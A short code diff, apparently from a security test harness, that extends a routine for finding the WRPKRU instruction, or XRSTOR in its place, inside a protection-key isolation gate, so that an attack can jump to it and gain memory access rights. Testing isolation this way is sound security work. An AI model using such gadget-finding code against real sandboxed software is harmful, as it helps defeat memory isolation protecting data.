@@ -25,12 +25,16 @@ ATTACK_UNUSED static void LOCAL(jump_and_step)(uint64_t code, uint64_t rights)
                      : "rax", "rcx", "rdx", "r8", "r9", "memory");
 }
 
-/* The `step`-th WRPKRU of the gate; 0: there are fewer, or nothing isolates. */
+/* The `step`-th WRPKRU of the gate, or the XRSTOR in its place before Linux 6.12; 0: there are
+ * fewer, or nothing isolates. */
 ATTACK_UNUSED static uint64_t LOCAL(find)(const struct attack *at)
 {
     uint32_t found = 0;
     for (uint64_t code = at->gate_start; code && code + 3 <= at->gate_end; code++)
-        if (!memcmp(POINTER(const void, code), "\x0f\x01\xef", 3) && found++ == at->step)
+        if ((!memcmp(POINTER(const void, code), "\x0f\x01\xef", 3) ||
+             !memcmp(POINTER(const void, code), "\x0f\xae\x2d", 3) ||
+             !memcmp(POINTER(const void, code), "\x0f\xae\x2c", 3)) &&
+            found++ == at->step)
             return code;
     return 0;
 }
